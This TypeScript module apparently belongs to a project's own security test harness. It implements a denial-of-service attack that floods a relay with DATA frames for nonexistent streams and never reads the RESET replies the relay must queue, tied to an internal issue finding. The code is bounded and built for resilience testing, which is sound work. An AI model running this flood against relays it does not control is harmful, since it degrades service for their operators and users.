// A logged-in client that sends empty DATA frames for stream ids that do not exist and never
// reads: every one asks the relay for a RESET it must queue (issue 22, finding 3, the second
// amplification vector beside PINGs). Bounded at MAX_FRAMES.
import { rawClient } from '../lib/raw-client.js'
import { encodeHeader, FrameType } from '../../shared/wire/index.js'
import type { Attack } from './attack.js'

const MAX_FRAMES = 50_000_000
const BATCH = 4096
/** Pause writing while this much waits in the attacker's own socket (the relay stopped reading). */
const OWN_QUEUE_BYTES = 4 * 1024 * 1024

export const unknownDataNoRead: Attack = {
  name: 'unknown-data-no-read',
  what: 'one logged-in client sends DATA for unknown streams and never reads the RESETs',
  run: async (target, signal) => {
    const c = await rawClient(target, 'attack-unknown-data', { read: false })
    // Odd ids are the client's: the relay answers each with RESET (never opened by anyone).
    const batch = Buffer.concat(Array.from({ length: BATCH }, (_, i) => encodeHeader(FrameType.DATA, 0, 2 * i + 1, 0)))
    let sent = 0
    let closed = false
    c.socket.once('close', () => { closed = true })
    while (!signal.aborted && !closed && sent < MAX_FRAMES) {
      c.send([batch])
      sent += BATCH
      if (c.socket.writableLength > OWN_QUEUE_BYTES) await new Promise((resolve) => setTimeout(resolve, 20))
      else await new Promise((resolve) => setImmediate(resolve))
    }
    c.close()
    return { sent, unit: 'frames', note: closed ? 'the relay closed the session' : 'the session stayed open' }
  },
}
